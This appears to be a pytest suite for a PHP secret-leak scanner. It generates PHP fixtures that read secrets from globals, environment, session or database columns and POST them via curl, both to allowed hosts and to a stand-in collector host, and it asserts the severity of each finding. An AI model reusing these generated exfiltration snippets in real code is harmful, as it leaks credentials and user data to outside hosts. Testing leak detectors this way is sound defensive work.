"""Every secret with documented destinations: there it is expected, anywhere else it is a leak."""

from __future__ import annotations

import pytest

from scanner.model.finding import Finding
from scanner.model.signature import Secret, SecretOrigin
from scanner.pipeline import ScanOptions, scan
from scanner.signatures.load import shared_catalogue

SECRETS = [
    secret
    for secret in shared_catalogue().secrets
    if secret.kind != "handle"
    and not (secret.origin is SecretOrigin.TABLE and (secret.kind == "session" or secret.severity_floor == "info"))
]
"""Without open connections, which are used and not sent, and without columns that a page shows by design."""
READ = {
    SecretOrigin.DATABASE_PHP: "$GLOBALS['{name}']",
    SecretOrigin.CONFIG: "$GLOBALS['{name}']",
    SecretOrigin.ENVIRONMENT: "getenv('{name}')",
    SecretOrigin.SESSION: "$_SESSION['{name}']",
    SecretOrigin.TABLE: "mysqli_fetch_assoc(mysqli_query($c, 'select {name} from {table}'))['{name}']",
}
OTHER = "collector.example.net"


def hosts(secret: Secret) -> list[str]:
    return [name.replace("*", "some") for name in secret.destinations if ":" not in name and name != "own-server"]


def cases() -> list[tuple[Secret, str]]:
    """Secrets that code can read by a name of their own, each with one of the hosts where it may go."""
    return [(secret, host) for secret in SECRETS if secret.origin in READ for host in hosts(secret)[:1]]


def code(secret: Secret, host: str) -> str:
    value = READ[secret.origin].format(name=secret.name, table=secret.table)
    return (
        f'<?php\n$h = curl_init("https://{host}/v1");\n'
        f"curl_setopt($h, CURLOPT_POSTFIELDS, ['v' => {value}]);\ncurl_exec($h);\n"
    )


@pytest.fixture(scope="module")
def found(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[Finding]]:
    """Leaks by file: one release with a file for every secret and place."""
    folder = tmp_path_factory.mktemp("release")
    for number, (secret, host) in enumerate(cases()):
        (folder / f"right{number}.php").write_text(code(secret, host))
        (folder / f"wrong{number}.php").write_text(code(secret, OTHER))
        (folder / f"almost{number}.php").write_text(code(secret, f"{host}.{OTHER}"))
    for number, secret in enumerate(unsent()):
        (folder / f"nowhere{number}.php").write_text(code(secret, OTHER))
    by_file: dict[str, list[Finding]] = {}
    for finding in scan(str(folder), ScanOptions(cache=None, jobs=0)).findings:
        if finding.rule == "secret-to-network":
            by_file.setdefault(finding.path, []).append(finding)
    return by_file


def unsent() -> list[Secret]:
    """Secrets that go nowhere, or only to where a setting says."""
    return [secret for secret in SECRETS if secret.origin in READ and not hosts(secret) and secret.name]


def severity(found: dict[str, list[Finding]], path: str, label: str) -> str:
    return next((item.severity.value for item in found.get(path, []) if label in item.secrets), "no finding")


def test_there_are_enough_cases() -> None:
    assert len(cases()) >= 30
    assert len(unsent()) >= 30


@pytest.mark.parametrize("number", range(len(cases())), ids=lambda number: cases()[number][0].label)
def test_a_secret_is_expected_at_its_own_service_only(found: dict[str, list[Finding]], number: int) -> None:
    secret, _host = cases()[number]
    assert severity(found, f"right{number}.php", secret.label) == "info"
    worst = "info" if secret.severity_floor == "info" else "critical"
    assert severity(found, f"wrong{number}.php", secret.label) == worst
    assert severity(found, f"almost{number}.php", secret.label) == worst


@pytest.mark.parametrize("number", range(len(unsent())), ids=lambda number: unsent()[number].label)
def test_a_secret_without_a_service_may_go_nowhere(found: dict[str, list[Finding]], number: int) -> None:
    secret = unsent()[number]
    worst = "info" if secret.severity_floor == "info" else "critical"
    assert severity(found, f"nowhere{number}.php", secret.label) == worst
